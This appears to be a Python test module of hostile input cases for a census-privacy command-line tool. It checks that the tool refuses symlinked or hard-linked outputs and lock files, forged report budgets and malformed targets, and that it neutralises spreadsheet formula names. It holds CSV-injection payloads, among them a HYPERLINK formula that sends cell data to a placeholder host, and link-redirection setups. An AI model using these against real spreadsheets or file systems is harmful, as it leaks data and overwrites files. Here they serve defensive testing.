"""Hostile-corpus cases for files a user trusts (docs/reliability.md, "Tests").

Loaded by ``corpus.py`` (``cases(base)`` with ``base`` the corpus module, whose :class:`Case`,
builders and runner these cases reuse), so ``pytest tests/hostile`` and ``run_corpus.py`` (which
replays them against another checkout) see them like every other case. Classes added:

* ``output``: ``--overwrite`` over a folder holding a user's file, a ``.git`` or a link; ``--out``
  that is a link; a lock-file name that is a symbolic or hard link to a file outside ``--out``;
* ``run-folder``: a run folder given to a reader holding a link to another run's file, or a folder
  its manifest does not list;
* ``report``: ``report --results`` with an empty object, JSON naming no run, a budget fingerprint
  contradicting its run's config (a ×50 budget claiming the preset's), a fingerprint with no run;
  a scenario carrying such a run;
* ``spreadsheet``: level, cell and attribute names from a user's mapping that a spreadsheet would
  run as formulas, written to estimates/measurements/microdata CSV;
* ``message``: wrong JSON types in target files, counts overflowing int64, an out-of-range
  ``--chunk-persons``, ``--persons`` of ``generate population`` at its documented maximum, float
  shares summing to 1 within 1e-16.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
from collections.abc import Callable
from fractions import Fraction
from pathlib import Path
from typing import Any

MANIFEST = "manifest.json"
OVERFLOW_COUNT = 999_999_999_999_999_999  # 18 digits: one is read; twelve overflow int64 summed
FORMULAS = ('=HYPERLINK("http://x.example/?"&A2,"open")', "@SUM(1+1)", "-2+3", "+cmd")


def _fail(message: str) -> None:
    raise AssertionError(message)


def cases(base: Any) -> list[Any]:
    """The cases, built with the corpus module ``base`` (its Case, _write, td, TD, prior_output)."""
    Case, write, td, prior = base.Case, base._write, base.td, base.prior_output
    R, A = "refused", "accepted"

    def prior_with(extra: Callable[[Path], None]) -> Callable[[Path], None]:
        def setup(d: Path) -> None:
            prior(d)
            extra(d)

        return setup

    def prior_intact(*kept: str) -> Callable[[Path], None]:
        def check(d: Path) -> None:
            base._unchanged_prior(d)
            for name in kept:
                if not os.path.lexists(d / "out" / name):
                    _fail(f"{name} was removed from the user's folder")

        return check

    def notes(d: Path) -> None:
        write(d / "out" / "notes.md", "my notes")

    def git(d: Path) -> None:
        write(d / "out" / ".git" / "HEAD", "ref: refs/heads/main\n")

    def link_inside(d: Path) -> None:
        write(d / "elsewhere.csv", "x\n")
        os.symlink(d / "elsewhere.csv", d / "out" / "extra.csv")

    def out_is_link(d: Path) -> None:
        prior(d)
        os.rename(d / "out", d / "real")
        os.symlink(d / "real", d / "out")

    def real_intact(d: Path) -> None:
        if MANIFEST not in os.listdir(d / "real") or not (d / "out").is_symlink():
            _fail("the linked folder or the link was replaced")

    def lock_link(hard: bool) -> Callable[[Path], None]:
        def setup(d: Path) -> None:
            base._write(d / "blocks.csv", base.ri_text())
            write(d / "victim.txt", "a file outside --out\n")
            (os.link if hard else os.symlink)(d / "victim.txt", d / ".out.phexplore-lock")

        return setup

    def victim_intact(d: Path) -> None:
        if (d / "victim.txt").read_text() != "a file outside --out\n":
            _fail("the file the lock name points to was truncated or written")
        if os.path.lexists(d / "out"):
            _fail("an output was written through a linked lock file")

    def linked_microdata(d: Path) -> None:
        """Two runs: the first without microdata; the second's microdata linked into the first."""
        from phexplore.cli import main

        write(d / "blocks.csv", base.ri_text())
        for out, extra in (("out", ["--no-microdata"]), ("other", [])):
            argv = [*base.TD[:-1], *extra, "--data", str(d / "blocks.csv"), "--out", str(d / out)]
            with (
                contextlib.redirect_stdout(io.StringIO()),
                contextlib.redirect_stderr(io.StringIO()),
            ):
                assert main(argv) == 0, "a prior run failed"
        os.symlink(d / "other" / "microdata.csv", d / "out" / "microdata.csv")

    def report_argv(
        results: str, preset: str = "ri2010-production-like"
    ) -> Callable[..., list[str]]:
        return lambda d: [
            "report", "--preset", preset, "--results", str(d / results), "--out", str(d / "r.html"),
        ]  # fmt: skip

    def no_report(d: Path) -> None:
        if (d / "r.html").exists():
            _fail("a report was written")

    def forged(edit: Callable[[dict[str, Any]], None]) -> Callable[[Path], None]:
        def setup(d: Path) -> None:
            prior(d)
            data = json.loads((d / "out" / "metrics.json").read_text())
            edit(data)
            write(d / "forged.json", json.dumps(data))

        return setup

    def times_fifty(data: dict[str, Any]) -> None:
        """A ×50 budget that still claims the preset's fingerprint (the run's own fingerprint
        removed, as the replay message invites)."""
        data["run"]["config"]["rho"] = str(50 * Fraction(data["run"]["config"]["rho"]))
        data["run"].pop("fingerprint", None)

    def forged_scenario(d: Path) -> None:
        forged(times_fifty)(d)
        from phexplore.planning.scenarios import scenario_from_preset

        scenario = scenario_from_preset("ri2010-production-like").to_dict()
        scenario["results"] = [json.loads((d / "forged.json").read_text())]
        write(d / "s.json", json.dumps(scenario))

    def sheet(d: Path) -> None:
        attribute = FORMULAS[1]
        write(
            d / "blocks.csv",
            "GEOID,a,b\n440010301001000,5,3\n440010301001001,7,0\n440010301002000,2,9\n",
        )
        mapping = {
            "schema": {
                "name": "sheet",
                "attributes": [{"name": attribute, "levels": [FORMULAS[0], FORMULAS[2]]}],
            },
            "geography": {"geoid": "GEOID"},
            "cells": {"a": {attribute: FORMULAS[0]}, "b": {attribute: FORMULAS[2]}},
        }
        write(d / "map.json", json.dumps(mapping))
        levels = ["State", "County", "Tract", "Block_Group", "Block"]
        alloc = {
            "name": "sheet", "mechanism": "zcdp", "rho": "1", "schema": "sheet",
            "geolevels": levels,
            "level_shares": dict.fromkeys(levels, "1/5"),
            "query_shares": {lv: {"TOTAL": "1/2", "DETAILED": "1/2"} for lv in levels},
        }  # fmt: skip
        write(d / "alloc.json", json.dumps(alloc))

    def sheet_argv(d: Path) -> list[str]:
        return [
            "run", "topdown", "--data", str(d / "blocks.csv"), "--mapping", str(d / "map.json"),
            "--config", str(d / "alloc.json"), "--seed", "1", "--quiet", "--out", str(d / "out"),
        ]  # fmt: skip

    def no_formula_cells(d: Path) -> None:
        seen_geoid = False
        for name in ("estimates.csv", "measurements.csv", "microdata.csv"):
            with open(d / "out" / name, newline="", encoding="utf-8") as handle:
                for row in csv.reader(handle):
                    for cell in row:
                        if cell[:1] in "=+@\t\r" or (cell[:1] == "-" and not _number(cell)):
                            _fail(f"{name}: a spreadsheet would run {cell!r}")
                        seen_geoid |= cell == "440010301001000"
        text = (d / "out" / "estimates.csv").read_text(encoding="utf-8")
        if "'@SUM" in text or "'=HYPERLINK" not in text or "'-2+3" not in text:
            _fail("the names were not kept (with an apostrophe) in estimates.csv")
        if not seen_geoid:
            _fail("a GEOID was altered")

    def targets(text: str, engine: str = "topdown") -> tuple[Any, Any]:
        return (
            lambda d: write(d / "t.json", text),
            lambda d: ["plan", engine, "--targets", str(d / "t.json")],
        )

    def overflow(d: Path) -> None:
        rows = [
            f"4400103010010{i:02d},{OVERFLOW_COUNT},{OVERFLOW_COUNT},0,0,0,0,0,0,0,"
            f"{OVERFLOW_COUNT},{OVERFLOW_COUNT},0,0,0,0,0,0,0"
            for i in range(12)
        ]
        write(d / "blocks.csv", base.ri_text(*rows))

    def float_shares(d: Path) -> None:
        levels = ["State", "County", "Tract", "Block_Group", "Block"]
        alloc = json.loads(base.allocation())
        alloc["level_shares"] = {lv: 0.2 for lv in levels}
        alloc["level_shares"]["Block"] = 0.19999999999999998  # the five sum to 1 − 2e-17
        write(d / "blocks.csv", base.ri_text())
        write(d / "alloc.json", json.dumps(alloc))

    population = ["generate", "population", "--seed", "1", "--format", "json"]
    t_list, t_list_argv = targets('{"runs": {"persons": {"moe90": {"State": [5]}}}}')
    t_geo, t_geo_argv = targets(
        '{"runs": {"p": {"sigma": {"State": {"TOTAL": 4}}, "geolevels": 5}}}'
    )
    t_ph, t_ph_argv = targets('{"tau": {"PH1_num": 10}, "moe_targets": ["PH1_num"]}', "phsafe")
    return [
        # ---------------- outputs
        Case("overwrite-keeps-user-notes", "output", td("--overwrite"), R,
             ("notes.md", "did not write"), prior_with(notes), prior_intact("notes.md")),
        Case("overwrite-keeps-git", "output", td("--overwrite"), R, (".git/", "did not write"),
             prior_with(git), prior_intact(".git/HEAD")),
        Case("overwrite-refuses-link-inside", "output", td("--overwrite"), R,
             ("extra.csv", "symbolic link"), prior_with(link_inside), prior_intact("extra.csv")),
        Case("out-is-a-symlink", "output", td("--overwrite"), R, ("symbolic link",),
             out_is_link, real_intact),
        Case("lock-name-is-a-symlink", "output", td(), R, ("lock file", "symbolic link"),
             lock_link(hard=False), victim_intact),
        Case("lock-name-is-a-hard-link", "output", td(), R, ("lock file", "hard link"),
             lock_link(hard=True), victim_intact),
        # ---------------- run folders read back
        Case("run-folder-linked-file", "run-folder", report_argv("out"), R,
             ("microdata.csv", "symbolic link"), linked_microdata, no_report),
        Case("run-folder-unlisted-folder", "run-folder", report_argv("out"), R,
             ("stash/", "does not list"),
             prior_with(lambda d: write(d / "out" / "stash" / "x.csv", "1\n")), no_report),
        # ---------------- report inputs
        Case("report-empty-object", "report", report_argv("empty.json"), R, ("names no run",),
             lambda d: write(d / "empty.json", "{}"), no_report),
        Case("report-json-naming-no-run", "report", report_argv("m.json"), R, ("names no run",),
             lambda d: write(d / "m.json", '{"mae": {"State": {"TOTAL": 1.0}}}'), no_report),
        Case("report-budget-contradicts-fingerprint", "report", report_argv("forged.json"), R,
             ("the budget does not hold", "measured with"), forged(times_fifty), no_report),
        Case("report-fingerprint-without-run", "report", report_argv("forged.json"), R,
             ("no run description",), forged(lambda m: m.pop("run")), no_report),
        Case("report-scenario-with-forged-run", "report",
             lambda d: ["report", "--scenario", str(d / "s.json"), "--out", str(d / "r.html")], R,
             ("attached run 1", "the budget does not hold"), forged_scenario, no_report),
        # ---------------- spreadsheet formulas in outputs
        Case("mapping-names-are-formulas", "spreadsheet", sheet_argv, A, ("TopDown run",), sheet,
             no_formula_cells),
        # ---------------- messages
        Case("targets-list-for-object", "message", t_list_argv, R,
             ("runs.persons.moe90.State", "expected a JSON object"), t_list),
        Case("targets-geolevels-not-a-list", "message", t_geo_argv, R,
             ("runs.p.geolevels", "list of level names"), t_geo),
        Case("phsafe-targets-list", "message", t_ph_argv, R,
             ("moe_targets", "expected a JSON object"), t_ph),
        # Only the file is required in the message: the input readers' own refusal of the overflow
        # (by row and column) satisfies the case as well as the engine's (by block and cell); the
        # old "weighted least squares failed numerically" / "invariant TOTAL is negative" named none.
        Case("block-counts-overflow-int64", "message", td(), R, ("blocks.csv",), overflow),
        Case("chunk-persons-out-of-range", "message",
             lambda d: [*population, "--persons", "1000", "--chunk-persons", "5", "--out",
                        str(d / "p")],
             R, ("--chunk-persons", "10,000")),
        Case("population-persons-beyond-its-range", "message",
             lambda d: [*population, "--persons", "400000001", "--out", str(d / "p")], R,
             ("--persons", "400,000,000")),
        Case("float-shares-near-one", "message",
             lambda d: [*base.TD[:2], "--config", str(d / "alloc.json"), "--data",
                        str(d / "blocks.csv"), "--quiet", "--out", str(d / "out")],
             R, ("sum to exactly 1", "1 − 2e-17", "1/3"), float_shares),
    ]  # fmt: skip


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
